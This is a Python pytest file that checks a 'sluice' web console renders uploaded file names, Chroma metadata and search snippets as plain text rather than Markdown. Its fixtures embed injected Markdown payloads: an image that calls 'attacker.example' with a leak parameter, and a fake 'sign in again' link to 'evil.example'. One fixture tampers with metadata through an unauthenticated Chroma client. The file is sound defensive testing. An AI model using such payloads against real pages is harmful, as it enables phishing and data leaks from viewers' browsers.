"""User-controlled strings reach the browser as text, never as Markdown: checked on what a real
``sluice serve console`` sends over its websocket for the job page and a search.

File names are chosen by whoever uploads; Chroma metadata by whoever reaches Chroma. Either could
make the console draw a link ("Session expired - sign in again") or an image the browser fetches.
"""

from __future__ import annotations

import chromadb
import pytest
from markdown_it import MarkdownIt

from sluice.ops.ingest import ingest_bytes
from sluice.pipeline.running.runner import run_job
from tests.support.console_socket import ConsoleSocket, local_link, text, trigger
from tests.support.helpers import collection, ids_of_job
from tests.test_security_console import console  # noqa: F401  (fixture)

IMAGE = "![pix](https:attacker.example?leak=1).txt"
LINK = "[Session expired - sign in again](https:evil.example)"
PLAIN_ELEMENTS = {"text", "code", "arrow_data_frame", "arrow_table", "data_frame", "empty"}
MD = MarkdownIt("commonmark")


def markdown_hazards(run, marker: str) -> list[str]:
    """Strings sent for Markdown rendering that would draw a link or image, or autolink a URL."""
    bad = []
    for element in run.elements():
        kind = element.WhichOneof("type")
        if kind in PLAIN_ELEMENTS:
            continue
        for value in _strings(getattr(element, kind)):
            if marker not in value:
                continue
            html = MD.render(value)
            if "<a " in html or "<img" in html or "https:" in value.replace("\\:", ""):
                bad.append(f"{kind}: {value}")
    return bad


def _strings(message):
    for field, value in message.ListFields():
        values = list(value) if field.is_repeated else [value]
        if field.type == field.TYPE_STRING:
            yield from values
        elif field.type == field.TYPE_MESSAGE:
            for item in values:
                yield from _strings(item)


@pytest.fixture
def hostile(ctx):
    text_bytes = b"Harbour pilots board ships near the breakwater before the channel. " * 30
    job = ingest_bytes(ctx, text_bytes, filename=IMAGE, dataset="default").job_id
    run_job(job, ctx=ctx)
    # Whoever reaches Chroma rewrites a chunk's metadata (no token on the local server).
    url = ctx.settings.chroma_url.rsplit(":", 1)
    client = chromadb.HttpClient(
        host=url[0].split("//")[1],
        port=int(url[1]),
        settings=chromadb.Settings(anonymized_telemetry=False),
    )
    coll = client.get_collection(collection(ctx))
    ids = ids_of_job(ctx, job)
    got = coll.get(ids=ids, include=["metadatas"])
    coll.update(ids=got["ids"], metadatas=[{**m, "filename": LINK} for m in got["metadatas"]])
    return job


def test_a_file_name_is_shown_as_text_on_the_job_page(ctx, hostile, console):  # noqa: F811
    proc = console(launcher="sluice")
    with ConsoleSocket(proc.port) as sock:
        first = sock.run(query=local_link(ctx.settings))
        jobs = sock.run(query=f"job={hostile}", page_hash=first.page_hash("jobs"))
    assert "leak" in jobs.text, "the job page did not show the file name"
    assert not markdown_hazards(jobs, "leak"), markdown_hazards(jobs, "leak")


def test_chroma_metadata_is_shown_as_text_in_search(ctx, hostile, console):  # noqa: F811
    proc = console(launcher="sluice")
    with ConsoleSocket(proc.port) as sock:
        search_hash = sock.run(query=local_link(ctx.settings)).page_hash("search")
        page = sock.run(page_hash=search_hash)
        query, button = page.widget_id("text_input", "Query"), page.widget_id("button", "Search")
        # dense ranking: its hits carry what Chroma holds (a hit the word index also finds shows
        # the job database's own name for the file)
        ranking = page.widget_id("selectbox", "Ranking")
        hits = sock.run(
            page_hash=search_hash,
            widgets=[text(query, "harbour pilots"), text(ranking, "dense"), trigger(button)],
        )
    assert "Session expired" in hits.text, "search did not show the hit"
    assert not markdown_hazards(hits, "Session expired"), markdown_hazards(hits, "Session expired")


def test_a_search_snippet_shows_the_documents_own_markup_as_text(ctx, console):  # noqa: F811
    # The snippet highlights matched words in bold; the document's own text must never become a link
    # or an image fetched by the browser of whoever searches.
    body = (
        b"Harbour pilots board ships [Session expired - sign in again](https:evil.example) and "
        b"![pix](https:attacker.example?leak=1) near the breakwater. "
    ) * 20
    job = ingest_bytes(ctx, body, filename="notes.txt", dataset="default").job_id
    run_job(job, ctx=ctx)
    proc = console(launcher="sluice")
    with ConsoleSocket(proc.port) as sock:
        search_hash = sock.run(query=local_link(ctx.settings)).page_hash("search")
        page = sock.run(page_hash=search_hash)
        query, button = page.widget_id("text_input", "Query"), page.widget_id("button", "Search")
        hits = sock.run(
            page_hash=search_hash, widgets=[text(query, "harbour pilots"), trigger(button)]
        )
    assert "Session expired" in hits.text, "search did not show the hit"
    assert not markdown_hazards(hits, "Session expired"), markdown_hazards(hits, "Session expired")
